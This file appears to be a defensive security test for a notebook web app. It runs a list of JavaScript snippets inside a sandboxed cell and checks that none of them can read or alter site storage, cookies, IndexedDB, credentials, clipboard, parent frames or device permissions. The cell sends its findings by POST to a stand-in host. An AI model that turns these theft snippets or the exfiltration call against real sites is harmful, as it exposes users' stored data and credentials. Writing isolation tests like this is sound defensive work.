import { expect, test } from './attack.ts';

/** JavaScript by which code would read, or change, what the site keeps. Each returns what it found. */
const THEFTS: Readonly<Record<string, string>> = {
  fullscreen: "await document.documentElement.requestFullscreen(); return 'fullscreen'",
  'fullscreen-within':
    "const d = document.createElement('div'); document.body.append(d); await d.requestFullscreen(); return 'fullscreen'",
  'local-storage': 'return { ...localStorage }',
  'local-storage-set': "localStorage.setItem('attack', 'x'); localStorage.setItem('skybook.settings', '{}')",
  'session-storage': "sessionStorage.setItem('attack', 'x')",
  cookies: "document.cookie = 'attack=x'; return document.cookie",
  'cookie-store': "await window.cookieStore.set('attack', 'x'); return window.cookieStore.getAll()",
  databases: 'return indexedDB.databases()',
  database:
    "return new Promise((done, failed) => { const r = indexedDB.open('skybook'); r.onerror = () => failed(r.error); r.onsuccess = () => { r.result.transaction('notebooks').objectStore('notebooks').getAll().onsuccess = (e) => done(e.target.result); }; })",
  'database-gone': "indexedDB.deleteDatabase('skybook')",
  caches: "const c = await caches.open('attack'); await c.put('x', new Response('x')); return caches.keys()",
  files: 'return [...await Array.fromAsync((await navigator.storage.getDirectory()).keys())]',
  'service-worker': "await navigator.serviceWorker.register(new URL('worker.js', location.href))",
  'shared-worker': "new window.SharedWorker(new URL('assets/x.js', location.href))",
  locks: 'return navigator.locks.query()',
  'storage-access': 'await document.requestStorageAccess(); return { ...localStorage }',
  buckets: "return (await navigator.storageBuckets.open('attack')).indexedDB.databases()",
  parent: 'return [parent.document.title, { ...parent.localStorage }]',
  top: 'return [top.document.body.innerText, { ...top.localStorage }]',
  'frame-of-site':
    "return new Promise((done, failed) => { const f = document.createElement('iframe'); f.src = new URL('index.html', location.href); f.onload = () => { try { done({ ...f.contentWindow.localStorage }); } catch (e) { failed(e); } }; document.body.append(f); })",
  'frame-credentialless':
    "return new Promise((done, failed) => { const f = document.createElement('iframe'); f.credentialless = true; f.sandbox = 'allow-scripts allow-same-origin'; f.srcdoc = ''; f.onload = () => { try { done({ ...f.contentWindow.localStorage }); } catch (e) { failed(e); } }; document.body.append(f); })",
  'window-of-site':
    "const w = window.open(new URL('index.html', location.href)); await new Promise((r) => setTimeout(r, 500)); return { ...w.localStorage }",
  'window-blank': "const w = window.open('about:blank'); return { ...w.localStorage }",
  broadcast: "new BroadcastChannel('skybook').postMessage({ attack: 'x' })",
  'worker-database':
    "return new Promise((done, failed) => { const w = new Worker(URL.createObjectURL(new Blob(['indexedDB.databases().then((d) => postMessage(d), (e) => postMessage(0))']))); w.onmessage = ({ data }) => (data ? done(data) : failed()); })",
  clipboard: 'return navigator.clipboard.readText()',
  'site-with-cookies':
    "return (await fetch(new URL('index.html', location.href), { credentials: 'include' })).headers.get('x')",
  credentials: 'return (await navigator.credentials.get({ password: true })).id',
  'pointer-lock': "await document.body.requestPointerLock(); return 'pointer'",
  'keyboard-lock': "await navigator.keyboard.lock(); return 'keyboard'",
  'picture-in-picture': "await window.documentPictureInPicture.requestWindow(); return 'window'",
  'wake-lock': "await navigator.wakeLock.request(); return 'awake'",
  place: "return new Promise((done, failed) => navigator.geolocation.getCurrentPosition(() => done('place'), failed))",
  camera: "await navigator.mediaDevices.getUserMedia({ video: true, audio: true }); return 'camera'",
  screen: "await navigator.mediaDevices.getDisplayMedia(); return 'screen'",
  notification: "return (await window.Notification.requestPermission()) === 'granted'",
  fonts: 'return (await window.queryLocalFonts()).length',
  gamepads: 'return navigator.getGamepads().filter(Boolean)',
  'history-flood': "for (let i = 0; i < 60; i++) window.history.pushState(i, '', '#' + i)",
  name: "window.name = 'attack'; parent.frames[0].name = 'attack'",
};

test('code of a link finds nothing that the site keeps, and no device', async ({ target }) => {
  const attempts = Object.entries(THEFTS).map(
    ([name, code]) => `await attempt(${JSON.stringify(name)}, ${JSON.stringify(code)});`,
  );
  await target.openCells([
    {
      id: 'a',
      type: 'module',
      // Made into functions as it runs: a cell that names what it does not know would not.
      text: `const found = {};
const within = (ms) => new Promise((_, failed) => setTimeout(failed, ms));
const attempt = async (name, text) => { try { found[name] = await Promise.race([new Function('return (async () => {' + text + '\\n})()')(), within(1500)]); } catch {} };
${attempts.join('\n')}
await fetch('https://named.test/found', { method: 'POST', body: JSON.stringify(found) });`,
    },
  ]);
  await target.runToEnd(120_000);
  await target.settle();
  const told = target.internet.heard.find(({ path }) => path === '/found')!;
  const found = Object.fromEntries(
    Object.entries(JSON.parse(told.body) as Readonly<Record<string, unknown>>).filter(
      ([, value]) =>
        value !== null &&
        value !== false &&
        value !== '' &&
        JSON.stringify(value) !== '{}' &&
        JSON.stringify(value) !== '[]',
    ),
  );
  expect.soft(found).toEqual({});
  expect(await target.page.evaluate(() => document.fullscreenElement === null), 'the page is in its window').toBe(true);
  await Promise.all(target.windows.map((window) => window.close()));
  target.windows.length = 0;
  expect.soft((await target.kept()).caches).not.toContain('attack');
  await target.expectUntouched();
  await target.page.getByRole('link', { name: 'Skybook' }).click();
  await expect(target.page.getByRole('button', { name: 'New notebook' })).toBeVisible();
});
